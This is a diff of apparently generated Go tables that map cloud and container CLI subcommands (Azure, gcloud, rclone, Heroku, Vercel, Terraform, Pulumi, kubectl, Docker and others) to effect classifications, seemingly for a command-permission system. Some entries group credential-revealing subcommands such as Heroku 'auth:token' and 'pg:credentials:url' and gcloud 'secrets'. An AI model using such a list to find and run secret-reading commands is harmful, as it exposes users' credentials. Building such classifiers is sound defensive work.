-		{line: 1182, kind: "program", exes: []string{"wrangler"}, subs: []string{"whoami", "tail"}, trigger: "", build: effectsCloudL1182},
-		{line: 1193, kind: "program", exes: []string{"wrangler"}, subs: []string{"secret", "deployments", "versions", "kv", "kv:namespace", "kv:key", "r2", "d1"}, trigger: "", build: effectsCloudL1193},
-		{line: 1203, kind: "program", exes: []string{"wrangler"}, subs: []string{"d1"}, trigger: "", build: effectsCloudL1203},
-		{line: 1216, kind: "program", exes: []string{"wrangler"}, subs: []string{"dev", "deploy", "publish", "build", "pages", "login", "logout", "init", "generate", "types", "secret", "kv", "r2", "queues", "dispatch-namespace"}, trigger: "", build: effectsCloudL1216},
-		{line: 1229, kind: "program", exes: []string{"terraform", "tofu"}, subs: nil, trigger: "", build: effectsCloudL1229},
-		{line: 1255, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"fmt"}, trigger: "", build: effectsCloudL1255},
-		{line: 1266, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"validate"}, trigger: "", build: effectsCloudL1266},
-		{line: 1274, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"plan"}, trigger: "", build: effectsCloudL1274},
-		{line: 1288, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"apply", "destroy", "refresh", "import", "console", "test"}, trigger: "", build: effectsCloudL1288},
-		{line: 1304, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"show"}, trigger: "", build: effectsCloudL1304},
-		{line: 1314, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"output"}, trigger: "", build: effectsCloudL1314},
-		{line: 1325, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"state"}, trigger: "", build: effectsCloudL1325},
-		{line: 1334, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"state"}, trigger: "", build: effectsCloudL1334},
-		{line: 1340, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"state"}, trigger: "", build: effectsCloudL1340},
-		{line: 1353, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"version"}, trigger: "", build: effectsCloudL1353},
-		{line: 1360, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"init", "get"}, trigger: "", build: effectsCloudL1360},
-		{line: 1371, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"providers"}, trigger: "", build: effectsCloudL1371},
-		{line: 1378, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"providers"}, trigger: "", build: effectsCloudL1378},
-		{line: 1386, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"workspace"}, trigger: "", build: effectsCloudL1386},
-		{line: 1392, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"workspace"}, trigger: "", build: effectsCloudL1392},
-		{line: 1400, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"login", "logout", "taint", "untaint", "force-unlock"}, trigger: "", build: effectsCloudL1400},
-		{line: 1408, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"metadata", "modules"}, trigger: "", build: effectsCloudL1408},
-		{line: 1416, kind: "program", exes: []string{"terragrunt"}, subs: nil, trigger: "", build: effectsCloudL1416},
-		{line: 1422, kind: "program", exes: []string{"pulumi"}, subs: nil, trigger: "", build: effectsCloudL1422},
-		{line: 1440, kind: "program", exes: []string{"pulumi"}, subs: []string{"preview", "pre", "up", "update", "destroy", "down", "dn", "refresh", "import", "watch", "convert", "new", "install", "about"}, trigger: "", build: effectsCloudL1440},
-		{line: 1457, kind: "program", exes: []string{"pulumi"}, subs: []string{"stack", "config"}, trigger: "", build: effectsCloudL1457},
-		{line: 1470, kind: "program", exes: []string{"pulumi"}, subs: []string{"stack"}, trigger: "", build: effectsCloudL1470},
-		{line: 1483, kind: "program", exes: []string{"pulumi"}, subs: []string{"config", "env"}, trigger: "", build: effectsCloudL1483},
-		{line: 1495, kind: "program", exes: []string{"pulumi"}, subs: []string{"config", "stack"}, trigger: "", build: effectsCloudL1495},
-		{line: 1507, kind: "program", exes: []string{"pulumi"}, subs: []string{"whoami", "logs", "org", "env", "schema", "login", "logout", "plugin", "policy", "package", "ai", "cancel"}, trigger: "", build: effectsCloudL1507},
-		{line: 1515, kind: "program", exes: []string{"pulumi"}, subs: []string{"version"}, trigger: "", build: effectsCloudL1515},
+		{line: 335, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL335},
+		{line: 343, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL343},
+		{line: 354, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL354},
+		{line: 365, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL365},
+		{line: 373, kind: "program", exes: []string{"az"}, subs: []string{"account"}, trigger: "", build: effectsCloudL373},
+		{line: 382, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL382},
+		{line: 391, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL391},
+		{line: 401, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL401},
+		{line: 410, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL410},
+		{line: 417, kind: "program", exes: []string{"az"}, subs: []string{"account"}, trigger: "", build: effectsCloudL417},
+		{line: 424, kind: "program", exes: []string{"az"}, subs: []string{"storage", "webapp", "functionapp", "redis", "cosmosdb"}, trigger: "", build: effectsCloudL424},
+		{line: 431, kind: "program", exes: []string{"az"}, subs: []string{"storage", "webapp", "functionapp"}, trigger: "", build: effectsCloudL431},
+		{line: 439, kind: "program", exes: []string{"az"}, subs: []string{"acr"}, trigger: "", build: effectsCloudL439},
+		{line: 449, kind: "program", exes: []string{"az"}, subs: []string{"aks"}, trigger: "", build: effectsCloudL449},
+		{line: 460, kind: "program", exes: []string{"az"}, subs: []string{"login", "logout", "version", "upgrade"}, trigger: "", build: effectsCloudL460},
+		{line: 469, kind: "program", exes: []string{"az"}, subs: []string{"config"}, trigger: "", build: effectsCloudL469},
+		{line: 476, kind: "program", exes: []string{"az"}, subs: []string{"storage"}, trigger: "", build: effectsCloudL476},
+		{line: 495, kind: "program", exes: []string{"gcloud"}, subs: nil, trigger: "", build: effectsCloudL495},
+		{line: 513, kind: "program", exes: []string{"gcloud"}, subs: []string{"auth"}, trigger: "", build: effectsCloudL513},
+		{line: 522, kind: "program", exes: []string{"gcloud"}, subs: []string{"auth"}, trigger: "", build: effectsCloudL522},
+		{line: 529, kind: "program", exes: []string{"gcloud"}, subs: []string{"config"}, trigger: "", build: effectsCloudL529},
+		{line: 537, kind: "program", exes: []string{"gcloud"}, subs: []string{"secrets"}, trigger: "", build: effectsCloudL537},
+		{line: 546, kind: "program", exes: []string{"gcloud"}, subs: []string{"auth", "config"}, trigger: "", build: effectsCloudL546},
+		{line: 553, kind: "program", exes: []string{"gcloud"}, subs: []string{"info", "version"}, trigger: "", build: effectsCloudL553},
+		{line: 562, kind: "program", exes: []string{"gcloud"}, subs: []string{"config"}, trigger: "", build: effectsCloudL562},
+		{line: 570, kind: "program", exes: []string{"gcloud"}, subs: []string{"projects", "organizations", "services", "secrets", "folders", "builds", "scheduler", "topic", "components"}, trigger: "", build: effectsCloudL570},
+		{line: 581, kind: "program", exes: []string{"gcloud"}, subs: []string{"functions"}, trigger: "", build: effectsCloudL581},
+		{line: 590, kind: "program", exes: []string{"gcloud"}, subs: []string{"run"}, trigger: "", build: effectsCloudL590},
+		{line: 599, kind: "program", exes: []string{"gcloud"}, subs: nil, trigger: "", build: effectsCloudL599},
+		{line: 610, kind: "program", exes: []string{"gcloud"}, subs: nil, trigger: "", build: effectsCloudL610},
+		{line: 621, kind: "program", exes: []string{"gcloud"}, subs: nil, trigger: "", build: effectsCloudL621},
+		{line: 629, kind: "program", exes: []string{"gcloud"}, subs: []string{"container"}, trigger: "", build: effectsCloudL629},
+		{line: 639, kind: "program", exes: []string{"gcloud"}, subs: []string{"iam"}, trigger: "", build: effectsCloudL639},
+		{line: 647, kind: "program", exes: []string{"gcloud"}, subs: []string{"storage"}, trigger: "", build: effectsCloudL647},
+		{line: 656, kind: "program", exes: []string{"gcloud"}, subs: []string{"storage"}, trigger: "", build: effectsCloudL656},
+		{line: 673, kind: "program", exes: []string{"gcloud"}, subs: []string{"compute", "cloud-shell", "alpha", "beta"}, trigger: "", build: effectsCloudL673},
+		{line: 679, kind: "program", exes: []string{"gcloud"}, subs: []string{"auth"}, trigger: "", build: effectsCloudL679},
+		{line: 692, kind: "program", exes: []string{"gsutil"}, subs: nil, trigger: "", build: effectsCloudL692},
+		{line: 706, kind: "program", exes: []string{"gsutil"}, subs: []string{"ls", "cat", "du", "stat", "hash", "version"}, trigger: "", build: effectsCloudL706},
+		{line: 714, kind: "program", exes: []string{"gsutil"}, subs: []string{"cp", "rsync"}, trigger: "", build: effectsCloudL714},
+		{line: 730, kind: "program", exes: []string{"gsutil"}, subs: []string{"mv"}, trigger: "", build: effectsCloudL730},
+		{line: 744, kind: "program", exes: []string{"azcopy"}, subs: nil, trigger: "", build: effectsCloudL744},
+		{line: 752, kind: "program", exes: []string{"azcopy"}, subs: []string{"copy", "cp", "sync"}, trigger: "", build: effectsCloudL752},
+		{line: 772, kind: "program", exes: []string{"azcopy"}, subs: []string{"list", "remove", "rm", "make", "bench", "benchmark", "login", "logout"}, trigger: "", build: effectsCloudL772},
+		{line: 780, kind: "program", exes: []string{"azcopy"}, subs: []string{"jobs"}, trigger: "", build: effectsCloudL780},
+		{line: 786, kind: "program", exes: []string{"azcopy"}, subs: []string{"env"}, trigger: "", build: effectsCloudL786},
+		{line: 795, kind: "program", exes: []string{"s3cmd"}, subs: nil, trigger: "", build: effectsCloudL795},
+		{line: 814, kind: "program", exes: []string{"s3cmd"}, subs: []string{"ls", "la", "du", "info"}, trigger: "", build: effectsCloudL814},
+		{line: 825, kind: "program", exes: []string{"s3cmd"}, subs: []string{"get", "put", "sync"}, trigger: "", build: effectsCloudL825},
+		{line: 849, kind: "program", exes: []string{"rclone"}, subs: nil, trigger: "", build: effectsCloudL849},
+		{line: 875, kind: "program", exes: []string{"rclone"}, subs: []string{"ls", "lsd", "lsl", "lsf", "lsjson", "size", "about", "tree", "check", "cryptcheck", "md5sum", "sha1sum", "hashsum", "cat"}, trigger: "", build: effectsCloudL875},
+		{line: 889, kind: "program", exes: []string{"rclone"}, subs: []string{"listremotes", "version"}, trigger: "", build: effectsCloudL889},
+		{line: 899, kind: "program", exes: []string{"rclone"}, subs: []string{"config"}, trigger: "", build: effectsCloudL899},
+		{line: 907, kind: "program", exes: []string{"rclone"}, subs: []string{"config"}, trigger: "", build: effectsCloudL907},
+		{line: 914, kind: "program", exes: []string{"rclone"}, subs: []string{"authorize"}, trigger: "", build: effectsCloudL914},
+		{line: 920, kind: "program", exes: []string{"rclone"}, subs: []string{"copy", "copyto", "sync", "bisync", "copyurl"}, trigger: "", build: effectsCloudL920},
+		{line: 942, kind: "program", exes: []string{"rclone"}, subs: []string{"move", "moveto"}, trigger: "", build: effectsCloudL942},
+		{line: 957, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL957},
+		{line: 972, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL972},
+		{line: 979, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL979},
+		{line: 986, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL986},
+		{line: 994, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL994},
+		{line: 1002, kind: "program", exes: []string{"doctl"}, subs: []string{"account", "balance", "invoice"}, trigger: "", build: effectsCloudL1002},
+		{line: 1009, kind: "program", exes: []string{"doctl"}, subs: []string{"auth"}, trigger: "", build: effectsCloudL1009},
+		{line: 1019, kind: "program", exes: []string{"doctl"}, subs: []string{"kubernetes", "k8s", "k"}, trigger: "", build: effectsCloudL1019},
+		{line: 1026, kind: "program", exes: []string{"doctl"}, subs: []string{"registry", "reg", "r"}, trigger: "", build: effectsCloudL1026},
+		{line: 1034, kind: "program", exes: []string{"doctl"}, subs: []string{"version"}, trigger: "", build: effectsCloudL1034},
+		{line: 1039, kind: "program", exes: []string{"doctl"}, subs: []string{"compute"}, trigger: "", build: effectsCloudL1039},
+		{line: 1045, kind: "program", exes: []string{"heroku"}, subs: nil, trigger: "", build: effectsCloudL1045},
+		{line: 1052, kind: "program", exes: []string{"heroku"}, subs: []string{"auth:token", "config", "config:get", "pg:credentials:url", "pg:credentials"}, trigger: "", build: effectsCloudL1052},
+		{line: 1060, kind: "program", exes: []string{"heroku"}, subs: []string{"apps", "apps:info", "info", "ps", "logs", "releases", "addons", "domains", "status", "whoami", "auth:whoami", "regions", "pipelines", "teams", "access", "features", "labs", "stack", "buildpacks", "drains", "certs", "spaces", "pg:info", "version", "--version"}, trigger: "", build: effectsCloudL1060},
+		{line: 1069, kind: "program", exes: []string{"heroku"}, subs: []string{"run", "run:detached", "local", "local:run", "ps:exec", "pg:psql", "redis:cli", "console"}, trigger: "", build: effectsCloudL1069},
+		{line: 1075, kind: "program", exes: []string{"heroku"}, subs: []string{"login", "logout", "auth:login", "auth:logout", "git:remote", "git:clone"}, trigger: "", build: effectsCloudL1075},
+		{line: 1081, kind: "program", exes: []string{"fly"}, subs: nil, trigger: "", build: effectsCloudL1081},
+		{line: 1093, kind: "program", exes: []string{"fly"}, subs: []string{"auth", "tokens"}, trigger: "", build: effectsCloudL1093},
+		{line: 1100, kind: "program", exes: []string{"fly"}, subs: []string{"status", "logs", "info", "ips", "regions", "releases", "doctor", "dashboard", "checks", "services"}, trigger: "", build: effectsCloudL1100},
+		{line: 1111, kind: "program", exes: []string{"fly"}, subs: []string{"secrets", "apps", "machine", "machines", "m", "volumes", "volume", "vol", "postgres", "pg", "certs", "orgs", "auth", "scale", "ips", "tokens"}, trigger: "", build: effectsCloudL1111},
+		{line: 1122, kind: "program", exes: []string{"fly"}, subs: []string{"version"}, trigger: "", build: effectsCloudL1122},
+		{line: 1128, kind: "program", exes: []string{"fly"}, subs: []string{"deploy", "launch", "console", "ssh", "sftp", "proxy", "mpg"}, trigger: "", build: effectsCloudL1128},
+		{line: 1134, kind: "program", exes: []string{"vercel"}, subs: nil, trigger: "", build: effectsCloudL1134},
+		{line: 1149, kind: "program", exes: []string{"vercel"}, subs: []string{"ls", "list", "inspect", "logs", "whoami", "domains", "projects", "project", "teams"}, trigger: "", build: effectsCloudL1149},
+		{line: 1159, kind: "program", exes: []string{"vercel"}, subs: []string{"env"}, trigger: "", build: effectsCloudL1159},
+		{line: 1169, kind: "program", exes: []string{"vercel"}, subs: []string{"pull"}, trigger: "", build: effectsCloudL1169},
+		{line: 1179, kind: "program", exes: []string{"vercel"}, subs: []string{"env"}, trigger: "", build: effectsCloudL1179},
+		{line: 1190, kind: "program", exes: []string{"vercel"}, subs: []string{"dev", "build", "deploy", "link", "login", "logout", "switch", "redeploy", "promote", "rollback", "alias", "dns", "certs", "git", "integration", "env", "bisect"}, trigger: "", build: effectsCloudL1190},
+		{line: 1196, kind: "program", exes: []string{"netlify"}, subs: nil, trigger: "", build: effectsCloudL1196},
+		{line: 1205, kind: "program", exes: []string{"netlify"}, subs: []string{"env:list", "env:get"}, trigger: "", build: effectsCloudL1205},
+		{line: 1213, kind: "program", exes: []string{"netlify"}, subs: []string{"status", "sites:list", "functions:list", "logs", "logs:function", "logs:deploy", "watch", "api"}, trigger: "", build: effectsCloudL1213},
+		{line: 1223, kind: "program", exes: []string{"netlify"}, subs: []string{"deploy"}, trigger: "", build: effectsCloudL1223},
+		{line: 1237, kind: "program", exes: []string{"netlify"}, subs: []string{"dev", "build", "serve", "functions:serve", "functions:invoke", "functions:build", "login", "logout", "link", "unlink", "init", "switch", "env:set", "env:unset", "env:import", "env:clone", "open"}, trigger: "", build: effectsCloudL1237},
+		{line: 1243, kind: "program", exes: []string{"wrangler"}, subs: nil, trigger: "", build: effectsCloudL1243},
+		{line: 1257, kind: "program", exes: []string{"wrangler"}, subs: []string{"whoami", "tail"}, trigger: "", build: effectsCloudL1257},
+		{line: 1268, kind: "program", exes: []string{"wrangler"}, subs: []string{"secret", "deployments", "versions", "kv", "kv:namespace", "kv:key", "r2", "d1"}, trigger: "", build: effectsCloudL1268},
+		{line: 1278, kind: "program", exes: []string{"wrangler"}, subs: []string{"d1"}, trigger: "", build: effectsCloudL1278},
+		{line: 1291, kind: "program", exes: []string{"wrangler"}, subs: []string{"dev", "deploy", "publish", "build", "pages", "login", "logout", "init", "generate", "types", "secret", "kv", "r2", "queues", "dispatch-namespace"}, trigger: "", build: effectsCloudL1291},
+		{line: 1304, kind: "program", exes: []string{"terraform", "tofu"}, subs: nil, trigger: "", build: effectsCloudL1304},
+		{line: 1331, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"fmt"}, trigger: "", build: effectsCloudL1331},
+		{line: 1342, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"validate"}, trigger: "", build: effectsCloudL1342},
+		{line: 1350, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"plan"}, trigger: "", build: effectsCloudL1350},
+		{line: 1364, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"apply", "destroy", "refresh", "import", "console", "test"}, trigger: "", build: effectsCloudL1364},
+		{line: 1380, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"show"}, trigger: "", build: effectsCloudL1380},
+		{line: 1390, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"output"}, trigger: "", build: effectsCloudL1390},
+		{line: 1401, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"state"}, trigger: "", build: effectsCloudL1401},
+		{line: 1411, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"state"}, trigger: "", build: effectsCloudL1411},
+		{line: 1421, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"state"}, trigger: "", build: effectsCloudL1421},
+		{line: 1427, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"state"}, trigger: "", build: effectsCloudL1427},
+		{line: 1440, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"version"}, trigger: "", build: effectsCloudL1440},
+		{line: 1447, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"init", "get"}, trigger: "", build: effectsCloudL1447},
+		{line: 1458, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"providers"}, trigger: "", build: effectsCloudL1458},
+		{line: 1465, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"providers"}, trigger: "", build: effectsCloudL1465},
+		{line: 1473, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"workspace"}, trigger: "", build: effectsCloudL1473},
+		{line: 1479, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"workspace"}, trigger: "", build: effectsCloudL1479},
+		{line: 1487, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"login", "logout", "taint", "untaint", "force-unlock"}, trigger: "", build: effectsCloudL1487},
+		{line: 1495, kind: "program", exes: []string{"terraform", "tofu"}, subs: []string{"metadata", "modules"}, trigger: "", build: effectsCloudL1495},
+		{line: 1503, kind: "program", exes: []string{"terragrunt"}, subs: nil, trigger: "", build: effectsCloudL1503},
+		{line: 1509, kind: "program", exes: []string{"pulumi"}, subs: nil, trigger: "", build: effectsCloudL1509},
+		{line: 1528, kind: "program", exes: []string{"pulumi"}, subs: []string{"preview", "pre", "up", "update", "destroy", "down", "dn", "refresh", "import", "watch", "convert", "new", "install", "about"}, trigger: "", build: effectsCloudL1528},
+		{line: 1545, kind: "program", exes: []string{"pulumi"}, subs: []string{"stack", "config"}, trigger: "", build: effectsCloudL1545},
+		{line: 1558, kind: "program", exes: []string{"pulumi"}, subs: []string{"stack"}, trigger: "", build: effectsCloudL1558},
+		{line: 1571, kind: "program", exes: []string{"pulumi"}, subs: []string{"config", "env"}, trigger: "", build: effectsCloudL1571},
+		{line: 1583, kind: "program", exes: []string{"pulumi"}, subs: []string{"config", "stack"}, trigger: "", build: effectsCloudL1583},
+		{line: 1595, kind: "program", exes: []string{"pulumi"}, subs: []string{"whoami", "logs", "org", "env", "schema", "login", "logout", "plugin", "policy", "package", "ai", "cancel"}, trigger: "", build: effectsCloudL1595},
+		{line: 1603, kind: "program", exes: []string{"pulumi"}, subs: []string{"version"}, trigger: "", build: effectsCloudL1603},
 	}},
 	{file: "effects/containers.toml", header: packHeader{Name: "effects-containers", Executables: []string{"kubectl", "oc", "kubectx", "kubens", "k9s", "helm", "kustomize", "docker", "podman", "nerdctl", "ctr", "docker-compose", "podman-compose"}}, blocks: []genBlock{
 		{line: 13, kind: "program", exes: []string{"kubectl", "oc"}, subs: nil, trigger: "", build: effectsContainersL13},
-		{line: 34, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"get"}, trigger: "", build: effectsContainersL34},
-		{line: 65, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"get"}, trigger: "", build: effectsContainersL65},
-		{line: 97, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"describe"}, trigger: "", build: effectsContainersL97},
-		{line: 122, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"logs"}, trigger: "", build: effectsContainersL122},
-		{line: 143, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"top", "explain", "api-resources", "api-versions", "cluster-info", "version", "events"}, trigger: "", build: effectsContainersL143},
-		{line: 166, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"auth"}, trigger: "", build: effectsContainersL166},
-		{line: 185, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"wait", "diff"}, trigger: "", build: effectsContainersL185},
-		{line: 211, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"rollout"}, trigger: "", build: effectsContainersL211},
-		{line: 235, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"cluster-info"}, trigger: "", build: effectsContainersL235},
-		{line: 255, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"config"}, trigger: "", build: effectsContainersL255},
-		{line: 266, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"config"}, trigger: "", build: effectsContainersL266},
-		{line: 275, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"config"}, trigger: "", build: effectsContainersL275},
-		{line: 285, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"plugin"}, trigger: "", build: effectsContainersL285},
-		{line: 291, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"completion"}, trigger: "", build: effectsContainersL291},
-		{line: 299, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"kustomize"}, trigger: "", build: effectsContainersL299},
-		{line: 317, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"exec", "attach", "run", "debug"}, trigger: "", build: effectsContainersL317},
-		{line: 349, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"cp"}, trigger: "", build: effectsContainersL349},
-		{line: 361, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"port-forward"}, trigger: "", build: effectsContainersL361},
-		{line: 371, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"proxy"}, trigger: "", build: effectsContainersL371},
-		{line: 388, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"apply", "create", "replace", "delete", "patch", "label", "annotate", "scale", "autoscale", "expose", "set", "taint", "cordon", "uncordon", "drain", "certificate", "edit"}, trigger: "", build: effectsContainersL388},
-		{line: 423, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"rollout"}, trigger: "", build: effectsContainersL423},
-		{line: 436, kind: "program", exes: []string{"oc"}, subs: []string{"whoami"}, trigger: "", build: effectsContainersL436},
-		{line: 449, kind: "program", exes: []string{"oc"}, subs: []string{"login", "logout", "project"}, trigger: "", build: effectsContainersL449},
-		{line: 461, kind: "program", exes: []string{"oc"}, subs: []string{"projects"}, trigger: "", build: effectsContainersL461},
-		{line: 468, kind: "program", exes: []string{"oc"}, subs: []string{"rsh", "new-app", "new-build", "start-build", "process"}, trigger: "", build: effectsContainersL468},
-		{line: 474, kind: "program", exes: []string{"oc"}, subs: []string{"rsync"}, trigger: "", build: effectsContainersL474},
-		{line: 488, kind: "program", exes: []string{"kubectx"}, subs: nil, trigger: "", build: effectsContainersL488},
-		{line: 499, kind: "program", exes: []string{"kubectx"}, subs: nil, trigger: "", build: effectsContainersL499},
-		{line: 509, kind: "program", exes: []string{"kubens"}, subs: nil, trigger: "", build: effectsContainersL509},
-		{line: 518, kind: "program", exes: []string{"kubens"}, subs: nil, trigger: "", build: effectsContainersL518},
-		{line: 527, kind: "program", exes: []string{"k9s"}, subs: nil, trigger: "", build: effectsContainersL527},
-		{line: 543, kind: "program", exes: []string{"k9s"}, subs: []string{"version", "info"}, trigger: "", build: effectsContainersL543},
-		{line: 553, kind: "program", exes: []string{"helm"}, subs: nil, trigger: "", build: effectsContainersL553},
-		{line: 572, kind: "program", exes: []string{"helm"}, subs: []string{"list", "ls", "status", "history", "hist"}, trigger: "", build: effectsContainersL572},
-		{line: 589, kind: "program", exes: []string{"helm"}, subs: []string{"get"}, trigger: "", build: effectsContainersL589},
-		{line: 600, kind: "program", exes: []string{"helm"}, subs: []string{"get"}, trigger: "", build: effectsContainersL600},
-		{line: 610, kind: "program", exes: []string{"helm"}, subs: []string{"template", "lint", "install", "upgrade"}, trigger: "", build: effectsContainersL610},
-		{line: 641, kind: "program", exes: []string{"helm"}, subs: []string{"show", "inspect"}, trigger: "", build: effectsContainersL641},
-		{line: 653, kind: "program", exes: []string{"helm"}, subs: []string{"search"}, trigger: "", build: effectsContainersL653},
-		{line: 663, kind: "program", exes: []string{"helm"}, subs: []string{"search"}, trigger: "", build: effectsContainersL663},
-		{line: 671, kind: "program", exes: []string{"helm"}, subs: []string{"version", "env", "completion"}, trigger: "", build: effectsContainersL671},
-		{line: 678, kind: "program", exes: []string{"helm"}, subs: []string{"repo", "plugin"}, trigger: "", build: effectsContainersL678},
-		{line: 686, kind: "program", exes: []string{"helm"}, subs: []string{"dependency", "dep"}, trigger: "", build: effectsContainersL686},
-		{line: 693, kind: "program", exes: []string{"helm"}, subs: []string{"repo", "dependency", "dep"}, trigger: "", build: effectsContainersL693},
-		{line: 705, kind: "program", exes: []string{"helm"}, subs: []string{"uninstall", "delete", "del", "un", "rollback", "test", "push", "pull", "fetch", "package", "registry", "plugin"}, trigger: "", build: effectsContainersL705},
-		{line: 713, kind: "program", exes: []string{"kustomize"}, subs: nil, trigger: "", build: effectsContainersL713},
-		{line: 720, kind: "program", exes: []string{"kustomize"}, subs: []string{"build"}, trigger: "", build: effectsContainersL720},
-		{line: 738, kind: "program", exes: []string{"kustomize"}, subs: []string{"version"}, trigger: "", build: effectsContainersL738},
-		{line: 745, kind: "program", exes: []string{"kustomize"}, subs: []string{"cfg"}, trigger: "", build: effectsContainersL745},
-		{line: 763, kind: "program", exes: []string{"docker"}, subs: nil, trigger: "", build: effectsContainersL763},
-		{line: 778, kind: "program", exes: []string{"podman"}, subs: nil, trigger: "", build: effectsContainersL778},
-		{line: 803, kind: "program", exes: []string{"nerdctl"}, subs: nil, trigger: "", build: effectsContainersL803},
-		{line: 816, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"ps"}, trigger: "", build: effectsContainersL816},
-		{line: 824, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container"}, trigger: "", build: effectsContainersL824},
-		{line: 832, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"images"}, trigger: "", build: effectsContainersL832},
-		{line: 839, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"image"}, trigger: "", build: effectsContainersL839},
-		{line: 846, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"inspect"}, trigger: "", build: effectsContainersL846},
-		{line: 853, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container", "image", "volume", "network", "context", "pod", "machine", "config", "plugin", "node", "service"}, trigger: "", build: effectsContainersL853},
-		{line: 860, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"logs"}, trigger: "", build: effectsContainersL860},
-		{line: 867, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container", "pod"}, trigger: "", build: effectsContainersL867},
-		{line: 874, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"version", "info", "history", "port", "top", "stats", "diff", "events"}, trigger: "", build: effectsContainersL874},
-		{line: 883, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container"}, trigger: "", build: effectsContainersL883},
+		{line: 35, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"get"}, trigger: "", build: effectsContainersL35},
+		{line: 66, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"get"}, trigger: "", build: effectsContainersL66},
+		{line: 98, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"describe"}, trigger: "", build: effectsContainersL98},
+		{line: 123, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"logs"}, trigger: "", build: effectsContainersL123},
+		{line: 144, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"top", "explain", "api-resources", "api-versions", "cluster-info", "version", "events"}, trigger: "", build: effectsContainersL144},
+		{line: 167, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"auth"}, trigger: "", build: effectsContainersL167},
+		{line: 186, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"wait", "diff"}, trigger: "", build: effectsContainersL186},
+		{line: 212, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"rollout"}, trigger: "", build: effectsContainersL212},
